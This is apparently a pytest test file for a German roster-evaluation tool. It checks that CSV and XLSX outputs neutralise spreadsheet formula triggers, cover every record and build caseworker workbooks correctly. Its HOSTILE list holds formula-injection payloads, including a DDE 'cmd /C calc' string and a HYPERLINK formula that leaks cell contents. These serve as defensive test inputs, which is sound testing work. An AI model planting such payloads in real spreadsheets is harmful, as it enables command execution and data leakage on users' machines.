"""Writing rosters: formula triggers neutralised in every output, the caseworker XLSX,
every record answered on every path."""

import csv
import datetime as dt
import io
import json
import re
import zipfile
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner
from hypothesis import given
from hypothesis import strategies as st

from eligibility import Engine
from eligibility.apps.evaluate import evaluate_roster
from eligibility.apps.synth import GERMAN_HEADERS
from eligibility.cli.main import main
from eligibility.io.cells import TRIGGERS, is_dangerous, neutralise, restore, xlsx_text
from eligibility.io.rosters import read_roster

ROOT = Path(__file__).resolve().parents[1]
ENGINE = Engine.load()
ON = dt.date(2018, 9, 15)
FIELDS = list(GERMAN_HEADERS)

HOSTILE = [
    '=HYPERLINK("http://x"&B2,"klick")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\n=cmd|' /C calc'!A0",
    "\u00a0@x",
    "\uff1d1+1",
]


# A lone CR, or a line break inside the id column, is a broken CSV line (an error row where it
# stands: issue 13's reading rules), so ids with one are tested through JSON lines instead.
CSV_HOSTILE = [h for h in HOSTILE if not set(h) & set("\r\n")]


def hostile_csv(path: Path, ids: list[str], gemeinde: str = "=Talbach") -> None:
    header = ";".join(GERMAN_HEADERS[f] for f in FIELDS)
    buf = io.StringIO()
    w = csv.writer(buf, delimiter=";", lineterminator="\r\n")
    for pid in ids:
        rec = {
            "person_id": pid,
            "aufenthaltsstatus": "duldung",
            "unterbringung": "anschluss",
            "gemeinde": gemeinde,
            "kreis": "@Kreis",
            "aufnahme_uab_datum": "01.02.2016",
        }
        w.writerow([rec.get(f, "") for f in FIELDS])
    path.write_bytes(b"\xef\xbb\xbf" + (header + "\r\n").encode() + buf.getvalue().encode())


def read_ids(src: Path, strip: bool = True) -> list[str]:
    """The ids as the engine takes them: without surrounding white space (the record id
    is stripped; the writer neutralises what is left, so nothing is re-armed)."""
    ids = [r.record["person_id"] for r in read_roster(src, ENGINE.entity().facts)[1]]
    return [i.strip() for i in ids] if strip else ids


def assert_no_live_cell(path: Path) -> list[list]:
    wb = openpyxl.load_workbook(path)
    values = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", (ws.title, c.coordinate, c.value)
                if isinstance(c.value, str):
                    assert not is_dangerous(c.value), (ws.title, c.coordinate, c.value)
            values.append([c.value for c in row])
    return values


def assert_no_live_csv(text: str) -> list[dict]:
    rows = list(csv.DictReader(io.StringIO(text), delimiter=";"))
    for r in rows:
        for v in r.values():
            assert not is_dangerous(v or ""), v
    return rows


def test_neutralise_rule():
    for text in HOSTILE:
        assert is_dangerous(text)
        out = neutralise(text)
        assert out == "'" + text and not is_dangerous(out) and restore(out) == text
    for safe in ["Talbach", "LKB-1", "", "a=b", "Müller-Lüdenscheidt", "'"]:
        assert neutralise(safe) == safe and restore(safe) == safe
    assert neutralise(-3) == -3 and neutralise(dt.date(2017, 1, 2)) == dt.date(2017, 1, 2)
    assert set("=+-@\t\r") <= TRIGGERS
    # A leading tab is kept (stripping it re-arms the formula).
    assert neutralise("\t=1") == "'\t=1"
    assert xlsx_text("a\x00b\x1fc\td") == "a\ufffdb\ufffdc\td"


@given(st.text(max_size=12))
def test_neutralised_text_is_never_dangerous_and_restores(text):
    out = neutralise(text)
    assert not is_dangerous(out)
    assert restore(out) == text


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize("fast", [True, False])
def test_evaluate_neutralises_every_trigger(tmp_path, fmt, fast):
    src = tmp_path / "in.csv"
    # Without quote characters or line breaks the CSV takes the Arrow block path; with them
    # the exact reader.
    ids = [h for h in HOSTILE if not set(h) & set('"\r\n')] if fast else CSV_HOSTILE
    hostile_csv(src, ids)
    out = tmp_path / f"out.{fmt}"
    summary = evaluate_roster(ENGINE, src, ON, out)
    assert summary.rows == len(ids)
    if fmt == "csv":
        rows = assert_no_live_csv(out.read_text(encoding="utf-8-sig"))
        # Reversible: the apostrophe in front, the id as read behind it.
        assert [restore(r["person_id"]) for r in rows] == read_ids(src)
    else:
        values = assert_no_live_cell(out)
        # The XLSX copies the input columns as they were typed, leading tab included.
        # (XlsxWriter stores a CR as Excel's escape _x000D_, which Excel reads back as CR.)
        unescape = lambda t: re.sub(r"_x([0-9A-F]{4})_", lambda m: chr(int(m.group(1), 16)), t)  # noqa: E731
        assert [restore(unescape(v[1])) for v in values[1 : len(ids) + 1]] == read_ids(src, strip=False)
        assert values[1][2] == "'=Talbach" and values[1][3] == "'@Kreis"


def test_evaluate_neutralises_cr_led_ids_from_json_lines(tmp_path):
    src = tmp_path / "in.jsonl"
    ids = [h for h in HOSTILE if "\r" in h or "\n" in h]
    src.write_text(
        "".join(json.dumps({"person_id": i, "aufenthaltsstatus": "duldung", "gemeinde": "=Tal"}) + "\n" for i in ids),
        encoding="utf-8",
    )
    for fmt in ("csv", "xlsx"):
        out = tmp_path / f"out.{fmt}"
        evaluate_roster(ENGINE, src, ON, out)
        if fmt == "csv":
            rows = assert_no_live_csv(out.read_text(encoding="utf-8-sig"))
            assert len(rows) == len(ids)
        else:
            assert_no_live_cell(out)
            assert openpyxl.load_workbook(out).worksheets[0].max_row == len(ids) + 1


def test_convert_neutralises_csv_and_xlsx(tmp_path):
    src = tmp_path / "in.csv"
    hostile_csv(src, CSV_HOSTILE)
    HOSTILE_IN = CSV_HOSTILE
    for fmt in ("csv", "xlsx"):
        out = tmp_path / f"conv.{fmt}"
        r = CliRunner().invoke(main, ["convert", str(src), "--out", str(out)])
        assert r.exit_code == 0, r.output
        if fmt == "csv":
            rows = assert_no_live_csv(out.read_text(encoding="utf-8-sig"))
            assert len(rows) == len(HOSTILE_IN)
        else:
            values = assert_no_live_cell(out)
            assert len(values) == len(HOSTILE_IN) + 1
            # dates stay real dates in XLSX
            col = values[0].index(GERMAN_HEADERS["aufnahme_uab_datum"])
            assert values[1][col] == dt.datetime(2016, 2, 1)


def test_nul_and_control_characters_do_not_corrupt_the_xlsx(tmp_path):
    src = tmp_path / "in.jsonl"
    src.write_text(
        "\n".join(
            json.dumps({"person_id": f"A\x00{i}\x07\x1b", "aufenthaltsstatus": "duldung", "gemeinde": "Tal\x0bbach"})
            for i in range(3)
        )
        + "\n",
        encoding="utf-8",
    )
    out = tmp_path / "out.xlsx"
    evaluate_roster(ENGINE, src, ON, out)
    values = assert_no_live_cell(out)
    assert [v[1] for v in values[1:4]] == [f"A\ufffd{i}\ufffd\ufffd" for i in range(3)]
    assert values[1][2] == "Tal\ufffdbach"


# ---------------------------------------------------------------- the caseworker XLSX


def test_caseworker_xlsx_reads_back(tmp_path):
    src = ROOT / "examples" / "roster_landkreis_beispiel.csv"
    out = tmp_path / "erg.xlsx"
    r = CliRunner().invoke(
        main, ["evaluate", str(src), "--on", "15.09.2018", "--out", str(out), "--errors-ok", "--keep", "Aufnahme UAB"]
    )
    assert r.exit_code == 0, r.output
    wb = openpyxl.load_workbook(out)
    ws = wb.worksheets[0]
    assert ws.title == "Ergebnis"
    header = [c.value for c in ws[1]]
    assert header[:5] == [
        "Zeile",
        "Personen-ID",
        "Aufnahme UAB",
        "Anschlussunterbringung (Kreis der AUB)",
        "Anschlussunterbringung (Kreis der AUB): Begründung",
    ]
    for label in ("Zu klären", "Hinweise", "Zielgruppe Integrationsmanagement"):
        assert label in header
    assert ws.freeze_panes == "A2"
    assert ws.auto_filter.ref == f"A1:{openpyxl.utils.get_column_letter(len(header))}1501"
    assert ws.column_dimensions["B"].width > 10
    rows = list(ws.iter_rows(min_row=2, values_only=True))
    assert len(rows) == 1500
    # "Zeile" as Excel shows the input row: the first data row is row 2.
    assert [r[0] for r in rows[:3]] == [2, 3, 4]
    first = rows[0]
    assert isinstance(first[2], dt.datetime) and ws.cell(2, 3).number_format == "dd.mm.yyyy"
    words = {r[header.index("Zielgruppe Integrationsmanagement")] for r in rows}
    assert words <= {"ja", "nein", "noch offen", "Fehler"} and "noch offen" in words
    assert {r[header.index("Priorität nach Bleibeperspektive")] for r in rows} & {"hoch", "normal", "niedrig"}
    reasons = [r[4] for r in rows if r[3] == "ja"]
    assert all(
        re.search(r"\[(Gesetz|Verwaltungspraxis eines Kreises|Annahme des Regelwerks)\]", x) for x in reasons
    )  # the citation, with its kind, is part of the reason
    open_reasons = [r[4] for r in rows if r[3] == "noch offen"]
    assert open_reasons and not any("[" in x for x in open_reasons)  # no rule decided: no citation
    hints = [r[header.index("Hinweise")] for r in rows if r[header.index("Hinweise")]]
    assert any(h.startswith("Aufnahme UAB: '31.02.2016' ist kein gültiges Datum") for h in hints)
    asks = [r[header.index("Zu klären")] for r in rows if r[header.index("Zu klären")]]
    assert asks and all("?" in a for a in asks)  # questions, not field names
    assert ws.row_dimensions[1].height == 45
    meta = dict(wb["Angaben zur Auswertung"].iter_rows(values_only=True))
    assert meta["Stichtag"] == dt.datetime(2018, 9, 15)
    assert meta["Regelwerk"] == ENGINE.info.name and meta["SHA-256 des Regelwerks"] == ENGINE.info.sha256
    assert meta["Eingabedatei"] == "roster_landkreis_beispiel.csv"
    assert meta["Zeilen gelesen"] == 1500
    assert meta["davon entschieden"] + meta["davon mit offenen Fragen"] + meta["davon mit Fehlern"] == 1500
    assert meta["Nicht verwendete Spalten"] == "Bemerkung"


def test_caseworker_xlsx_codes_and_keep_all(tmp_path):
    src = ROOT / "examples" / "roster_landkreis_beispiel.csv"
    out = tmp_path / "erg.xlsx"
    evaluate_roster(ENGINE, src, ON, out, keep=["all"], columns="codes")
    header = [c.value for c in openpyxl.load_workbook(out, read_only=True).worksheets[0][1]]
    ent = ENGINE.entity()
    assert header[: 1 + len(ent.facts)] == ["zeile", *ent.facts]
    assert "integrationsmanagement" in header and "hinweise" in header


def test_caseworker_xlsx_is_byte_identical(tmp_path):
    src = ROOT / "examples" / "roster_landkreis_beispiel.csv"
    a, b = tmp_path / "a.xlsx", tmp_path / "b.xlsx"
    evaluate_roster(ENGINE, src, ON, a)
    evaluate_roster(ENGINE, src, ON, b)
    assert a.read_bytes() == b.read_bytes()
    assert "2000-01-01T00:00:00Z" in zipfile.ZipFile(a).read("docProps/core.xml").decode()


# ---------------------------------------------------------------- every record answered


UNDECIDABLE = {"aufenthaltsstatus": "fluechtling", "aufnahme_uab_datum": "9999-12-31"}


@pytest.mark.parametrize("fmt", ["jsonl", "csv", "xlsx"])
def test_evaluate_answers_an_undecidable_record_on_every_format(tmp_path, fmt):
    src = tmp_path / "in.jsonl"
    recs = [
        {"person_id": "A", "aufenthaltsstatus": "duldung"},
        dict(UNDECIDABLE, person_id="B"),
        {"person_id": "C", "aufenthaltsstatus": "duldung"},
    ]
    src.write_text("\n".join(json.dumps(r) for r in recs) + "\n", encoding="utf-8")
    out = tmp_path / f"out.{fmt}"
    r = CliRunner().invoke(main, ["evaluate", str(src), "--on", "2018-09-15", "--out", str(out), "--errors-ok"])
    assert r.exit_code == 0, r.output
    assert "3 Zeilen gelesen" in r.output
    if fmt == "jsonl":
        lines = [json.loads(x) for x in out.read_text(encoding="utf-8").splitlines()]
        assert [x["record_id"] for x in lines] == ["A", "B", "C"] and [x["row"] for x in lines] == [1, 2, 3]
        # 9999-12-31 cannot be computed with: a field error of its own, the rest decided
        assert lines[1]["errors"][0]["code"] == "date_range" and lines[1]["errors"][0]["field"] == "aufnahme_uab_datum"
    elif fmt == "csv":
        rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8-sig")), delimiter=";"))
        assert [x["person_id"] for x in rows] == ["A", "B", "C"]
    else:
        rows = list(openpyxl.load_workbook(out).worksheets[0].iter_rows(min_row=2, values_only=True))
        assert [x[1] for x in rows] == ["A", "B", "C"]
        assert [x[0] for x in rows] == [1, 2, 3]  # JSON lines: "Zeile" is the record's line


# ---------------------------------------------------------------- upcoming


def test_within_months_are_calendar_months():
    from eligibility.apps.upcoming import add_months, window_end

    assert window_end(dt.date(2018, 1, 31), "1m") == dt.date(2018, 2, 28)
    assert window_end(dt.date(2020, 1, 31), "1m") == dt.date(2020, 2, 29)
    assert window_end(dt.date(2018, 9, 15), "3m") == dt.date(2018, 12, 15)
    assert window_end(dt.date(2018, 9, 15), "1y") == dt.date(2019, 9, 15)
    assert window_end(dt.date(2018, 9, 15), "12w") == dt.date(2018, 12, 8)
    assert window_end(dt.date(2018, 9, 15), "90") == dt.date(2018, 12, 14)
    assert add_months(dt.date(2018, 12, 31), 2) == dt.date(2019, 2, 28)
    with pytest.raises(ValueError):
        window_end(dt.date(9999, 12, 1), "2m")


def test_upcoming_one_line_per_person_and_date_real_dates_every_row_answered(tmp_path):
    src = ROOT / "examples" / "roster_landkreis_beispiel.csv"
    out = tmp_path / "anstehend.xlsx"
    r = CliRunner().invoke(main, ["upcoming", str(src), "--on", "2018-09-15", "--within", "6m", "--out", str(out)])
    assert r.exit_code == 0, r.output
    values = assert_no_live_cell(out)
    header, rows = values[0], values[1:]
    assert header[:5] == ["Datum", "Zeile", "ID", "Gemeinde", "Änderungen"]
    changes = [x for x in rows if x[0] is not None]
    errors = [x for x in rows if x[0] is None]
    assert changes and all(isinstance(x[0], dt.datetime) for x in changes)
    assert len({(x[1], x[0]) for x in changes}) == len(changes)
    assert any(";" in x[4] for x in changes)  # several outcomes change on one day: one line
    # The same error rows as evaluate counts (rows with bad values included).
    summary = evaluate_roster(ENGINE, src, ON, tmp_path / "e.csv")
    assert len(errors) == summary.errors and all(x[8] for x in errors)
    assert f"{summary.errors} fehlerhafte Zeilen" in r.output
    # XLSX numbers rows as Excel shows the input (header = row 1); CSV keeps the data row number.
    out_csv = tmp_path / "anstehend.csv"
    CliRunner().invoke(main, ["upcoming", str(src), "--on", "2018-09-15", "--within", "6m", "--out", str(out_csv)])
    rows_csv = list(csv.DictReader(io.StringIO(out_csv.read_text(encoding="utf-8-sig")), delimiter=";"))
    assert [x[1] for x in rows] == [int(x["zeile"]) + 1 for x in rows_csv]


def test_upcoming_answers_undecidable_and_hostile_rows(tmp_path):
    src = tmp_path / "in.jsonl"
    recs = [
        {"person_id": "=A", "aufenthaltsstatus": "fluechtling", "aufnahme_uab_datum": "2016-10-01", "gemeinde": "@G"},
        dict(UNDECIDABLE, person_id="B"),
    ]
    src.write_text("\n".join(json.dumps(r) for r in recs) + "\n", encoding="utf-8")
    for fmt in ("csv", "xlsx"):
        out = tmp_path / f"up.{fmt}"
        r = CliRunner().invoke(main, ["upcoming", str(src), "--on", "2018-09-15", "--within", "1m", "--out", str(out)])
        assert r.exit_code == 0, r.output
        if fmt == "csv":
            rows = assert_no_live_csv(out.read_text(encoding="utf-8-sig"))
            ids = [x["id"] for x in rows]
        else:
            rows = assert_no_live_cell(out)[1:]
            ids = [x[2] for x in rows]
        assert ids == ["'=A", "B"]


def test_upload_page_result_is_neutralised_and_answers_every_row(tmp_path):
    pytest.importorskip("fastapi")
    from fastapi.testclient import TestClient

    from eligibility.service.app import create_app

    src = tmp_path / "in.csv"
    hostile_csv(src, CSV_HOSTILE)
    client = TestClient(create_app(reload_seconds=None))
    r = client.post(
        "/liste",
        data={"stichtag": "15.09.2018", "ausgabe": "ergebnis"},
        files={"datei": ("Meine Liste.csv", src.read_bytes(), "text/csv")},
    )
    assert r.status_code == 200
    out = tmp_path / "erg.xlsx"
    out.write_bytes(r.content)
    assert_no_live_cell(out)
    assert openpyxl.load_workbook(out).worksheets[0].max_row == len(CSV_HOSTILE) + 1
    meta = dict(openpyxl.load_workbook(out)["Angaben zur Auswertung"].iter_rows(values_only=True))
    assert meta["Eingabedatei"] == "Meine Liste.csv" and meta["Zeilen gelesen"] == len(CSV_HOSTILE)
    r = client.post(
        "/liste",
        data={"stichtag": "15.09.2018", "ausgabe": "bericht"},
        files={"datei": ("l.csv", src.read_bytes(), "text/csv")},
    )
    assert r.status_code == 200 and "<script>" not in r.text.replace("<script>\n/* Sorting", "", 1)
    assert f'Die Liste hat <strong id="rows">{len(CSV_HOSTILE)}</strong> Zeilen' in r.text


def assert_same_workbook(a: Path, b: Path) -> None:
    """The two workbooks read back to the same cells, number formats and fonts (openpyxl)
    and the same values (calamine)."""
    import python_calamine

    wa, wb = openpyxl.load_workbook(a), openpyxl.load_workbook(b)
    assert wa.sheetnames == wb.sheetnames
    for sa, sb in zip(wa.worksheets, wb.worksheets):
        ra, rb = list(sa.iter_rows()), list(sb.iter_rows())
        assert len(ra) == len(rb)
        for x, y in zip(ra, rb):
            assert [(c.value, c.number_format, c.font.b) for c in x] == [
                (c.value, c.number_format, c.font.b) for c in y
            ]
        assert sa.freeze_panes == sb.freeze_panes and sa.auto_filter.ref == sb.auto_filter.ref
        assert {k: d.width for k, d in sa.column_dimensions.items()} == {
            k: d.width for k, d in sb.column_dimensions.items()
        }
    ca, cb = python_calamine.CalamineWorkbook.from_path(str(a)), python_calamine.CalamineWorkbook.from_path(str(b))
    assert ca.sheet_names == cb.sheet_names
    for name in ca.sheet_names:
        assert ca.get_sheet_by_name(name).to_python() == cb.get_sheet_by_name(name).to_python()


def test_fast_rows_are_what_xlsxwriter_itself_writes(tmp_path):
    """The sheet rows built from memoised fragments (repeated texts as shared strings) read
    back, in openpyxl and in calamine, as XlsxWriter's own constant-memory cells for the same
    values; every other part of the package is XlsxWriter's, byte for byte, but for the
    shared-string part's content type and relationship."""
    import xlsxwriter

    from eligibility.io.xlsx_result import FIXED_CREATED, XlsxSheet

    cols = ["n", "text", "date", "flag", "float", "neg"]
    cells = [
        [1, "Talbach", dt.date(2017, 2, 3), True, 0.5, -3],
        [2, "=1+1", dt.date(1900, 2, 28), False, 1e20, -0.25],
        [3, "  lead & <trail> ", dt.date(1900, 3, 1), None, 12345678.125, 0],
        [4, "a\x00b_x0041_\r\n\tc\uffff", None, "", 3.0, 7],
        [5, "Talbach", dt.date(2017, 2, 3), True, 0.5, -3],
        [6, "x" * 40000, dt.date(9999, 12, 31), "ja", 2, 1],
    ]
    fast = tmp_path / "fast.xlsx"
    sheet = XlsxSheet(fast, cols, unique=(1,))
    for row in cells:
        sheet.write(row)
    sheet.close()
    ref = tmp_path / "ref.xlsx"
    wb = xlsxwriter.Workbook(
        str(ref),
        {"constant_memory": True, "strings_to_formulas": False, "strings_to_urls": False, "strings_to_numbers": False},
    )
    wb.set_properties({"created": FIXED_CREATED})
    ws = wb.add_worksheet("Ergebnis")
    bold = wb.add_format({"bold": True, "text_wrap": True, "valign": "top"})
    date = wb.add_format({"num_format": "dd.mm.yyyy"})
    ws.set_row(0, 45)
    for j, c in enumerate(cols):
        ws.write_string(0, j, c, bold)
    ws.freeze_panes(1, 0)
    import warnings

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        for i, row in enumerate(cells, start=1):
            for j, v in enumerate(row):
                if v is None or v == "":
                    continue
                if isinstance(v, bool):
                    ws.write_string(i, j, "ja" if v else "nein")
                elif isinstance(v, str):
                    ws.write_string(i, j, xlsx_text(v))
                elif isinstance(v, dt.date):
                    ws.write_datetime(i, j, dt.datetime(v.year, v.month, v.day), date)
                else:
                    ws.write_number(i, j, v)
    for j, w in enumerate(sheet._widths):
        ws.set_column(j, j, round(w, 1))
    ws.autofilter(0, 0, len(cells), len(cols) - 1)
    wb.close()
    a, b = zipfile.ZipFile(fast), zipfile.ZipFile(ref)
    assert a.namelist() == b.namelist() + ["xl/sharedStrings.xml"]
    sst = '<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.'
    for name in b.namelist():
        if name == "[Content_Types].xml":
            assert (
                a.read(name).decode().replace(sst + 'spreadsheetml.sharedStrings+xml"/>', "") == b.read(name).decode()
            )
        elif name == "xl/_rels/workbook.xml.rels":
            assert a.read(name).decode().endswith('Target="sharedStrings.xml"/></Relationships>')
        elif name != "xl/worksheets/sheet1.xml":
            assert a.read(name) == b.read(name), name
    assert b'<c r="B2" t="inlineStr"><is><t>Talbach</t></is></c>' in a.read("xl/worksheets/sheet1.xml")  # unique
    assert b'<c r="D2" t="s"><v>0</v></c>' in a.read("xl/worksheets/sheet1.xml")  # "ja", shared
    assert_same_workbook(fast, ref)
    back = openpyxl.load_workbook(fast).worksheets[0]
    assert back.cell(2, 3).value == dt.datetime(2017, 2, 3) and back.cell(3, 3).value == dt.datetime(1900, 2, 28)
    assert back.cell(4, 2).value == "  lead & <trail> " and back.cell(2, 6).value == -3


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize("quoted", [False, True])
def test_a_record_the_batch_table_cannot_decide_is_an_error_row(tmp_path, monkeypatch, fmt, quoted):
    """Should the column-wise engine fail on one record, that record is an error row and
    the others of its block are decided (both CSV readers, XLSX, the report's pairs)."""
    from eligibility.apps.evaluate import table_decisions
    from eligibility.apps.result_rows import UNDECIDABLE

    engine = Engine.load()
    real = engine.decide_table

    def failing(records, on=None, entity=None, **kw):
        ids = (
            records["person_id"].to_pylist()
            if isinstance(records, dict) and "person_id" in records and hasattr(records["person_id"], "to_pylist")
            else [r.get("person_id") for r in records]
            if isinstance(records, list)
            else []
        )
        if "BAD" in ids:
            raise OverflowError("date value out of range")
        return real(records, on, entity=entity, **kw)

    monkeypatch.setattr(engine, "decide_table", failing)
    src = tmp_path / "in.csv"
    ids = ["A", "BAD", "C"] + (['"Q"'] if quoted else [])
    hostile_csv(src, ids, gemeinde="Talbach")
    out = tmp_path / f"out.{fmt}"
    summary = evaluate_roster(engine, src, ON, out)
    assert summary.rows == len(ids) and summary.errors == 1
    if fmt == "csv":
        rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8-sig")), delimiter=";"))
        assert [r["person_id"] for r in rows] == read_ids(src)
        assert rows[1]["fehler"] == UNDECIDABLE[0] and rows[0]["integrationsmanagement"] in ("ja", "nein", "unklar")
    else:
        rows = list(openpyxl.load_workbook(out).worksheets[0].iter_rows(min_row=2, values_only=True))
        assert [r[1] for r in rows] == read_ids(src, strip=False)
        assert rows[1][4] == "Fehler"
    _, rows = read_roster(src, engine.entity().facts)
    pairs = list(table_decisions(engine, rows, ON))
    assert [d is None for _, d in pairs] == [i == "BAD" for i in read_ids(src)]


def dirty_roster(path: Path) -> None:
    """A synthetic roster with many dirty rows and, for JSON lines, hostile text: control
    characters, XML's specials, formula triggers, braces, non-BMP characters, a long text."""
    from eligibility.apps.synth import write_roster

    write_roster(path, 300, seed=5, dirty_rate=0.3)
    if path.suffix == ".jsonl":
        odd = ["a\x00b\x1f_x0041_", "&<>\"'", "{0}{1}}{", "\U0001f600 Ünïcødé", " lead ", "x" * 40000]
        odd += HOSTILE
        with path.open("a", encoding="utf-8") as fh:
            for i, text in enumerate(odd):
                rec = {"person_id": text, "gemeinde": text, "kreis": odd[-i], "aufnahme_uab_datum": "2016-02-01"}
                fh.write(json.dumps(rec) + "\n")
            fh.write("{kaputt\n")


@pytest.mark.parametrize("name", ["examples/roster_landkreis_beispiel.csv", "jsonl", "dirty.csv", "dirty.jsonl"])
def test_block_wise_caseworker_xlsx_equals_the_row_wise_one(tmp_path, name):
    """write_table (combinations built once per block) writes the workbook write_decided
    writes row by row: the same cells, styles and widths (the shared strings are numbered in
    a different order: the block path builds each combination's cells before the rows)."""
    from eligibility.apps.evaluate import decide_chunk
    from eligibility.io.xlsx_result import CaseworkerResult, parse_keep
    from eligibility.text.render import short_reason

    if name == "jsonl":
        src = tmp_path / "in.jsonl"
        _, rows = read_roster(ROOT / "examples" / "roster_landkreis_beispiel.csv", ENGINE.entity().facts)
        src.write_text(
            "".join(json.dumps(r.record, default=str) + "\n" if r.record else "{bad\n" for r in rows), encoding="utf-8"
        )
    elif name.startswith("dirty"):
        src = tmp_path / name
        dirty_roster(src)
    else:
        src = ROOT / name
    a = tmp_path / "a.xlsx"
    summary = evaluate_roster(ENGINE, src, ON, a, keep=["all"])
    if name.startswith("dirty"):
        assert summary.errors > 10 and summary.decided > 10 and summary.unknown > 10
    ent = ENGINE.entity()
    info, rows = read_roster(src, ent.facts)
    headers = {f: h for h, f in info.columns.items()} if info.format != "jsonl" else {}
    b = tmp_path / "b.xlsx"
    result = CaseworkerResult(
        b,
        ENGINE,
        None,
        parse_keep(["all"], ent.facts, ent.id_field),
        False,
        ON,
        src.name,
        headers,
        row_offset=0 if info.format == "jsonl" else 1,
    )
    chunk, table = decide_chunk(ENGINE, list(rows), ON, None)
    cols = table.columns
    j = 0
    for row in chunk:
        if row.record is None or row.error:
            result.write_error(row.number, row.record, row.error or "")
            continue
        outcomes = []
        for oid in ent.outcome_order:
            v, st, rule, miss = (
                cols[oid][j],
                cols[f"{oid}_status"][j],
                cols[f"{oid}_rule"][j],
                cols[f"{oid}_missing"][j],
            )
            outcomes.append(
                (oid, v, st, rule, short_reason(ent, oid, v, st, rule, cols[f"{oid}_assumption"][j], miss).de, miss)
            )
        result.write_decided(row.number, row.record, outcomes, cols["errors"][j])
        j += 1
    result.close(info.ignored)
    za, zb = zipfile.ZipFile(a), zipfile.ZipFile(b)
    assert za.namelist() == zb.namelist()
    for entry in za.namelist():
        if entry not in ("xl/worksheets/sheet1.xml", "xl/sharedStrings.xml"):
            assert za.read(entry) == zb.read(entry), entry
    assert_same_workbook(a, b)


def test_csv_result_keeps_its_columns_unless_german_headers_are_asked_for(tmp_path):
    src = ROOT / "examples" / "roster_landkreis_beispiel.csv"
    plain, de = tmp_path / "p.csv", tmp_path / "d.csv"
    evaluate_roster(ENGINE, src, ON, plain)
    evaluate_roster(ENGINE, src, ON, de, columns="de")
    a = plain.read_text(encoding="utf-8-sig").split("\n", 1)
    b = de.read_text(encoding="utf-8-sig").split("\n", 1)
    assert a[0].startswith("zeile;person_id;anschlussunterbringung;anschlussunterbringung_grund;")
    assert b[0].startswith(
        "Zeile;Personen-ID;Anschlussunterbringung (Kreis der AUB);Anschlussunterbringung (Kreis der AUB): Begründung;"
    )
    assert b[0].endswith("Fehlende Angaben;Fehler;Regelwerk;Regelwerk SHA-256")
    assert a[1] == b[1]  # the same rows


def test_allocation_table_neutralises_gemeinde_names(tmp_path):
    src = tmp_path / "in.jsonl"
    src.write_text(
        "\n".join(
            json.dumps(
                {
                    "person_id": f"A{i}",
                    "aufenthaltsstatus": "fluechtling",
                    "unterbringung": "anschluss",
                    "zugang_bw_datum": "2015-06-01",
                    "aufenthaltstitel_datum": "2016-01-01",
                    "familiennachzug": False,
                    "geboren_nach_zugang": False,
                    "gemeinde": "=Tal" if i % 2 else "Berg",
                }
            )
            for i in range(4)
        )
        + "\n",
        encoding="utf-8",
    )
    out = tmp_path / "la.csv"
    r = CliRunner().invoke(main, ["allocation", str(src), "--year", "2018", "--per-head", "1000", "--out", str(out)])
    assert r.exit_code == 0, r.output
    rows = assert_no_live_csv(out.read_text(encoding="utf-8-sig"))
    assert {x["gemeinde"] for x in rows} == {"'=Tal", "Berg", "Gesamt"}
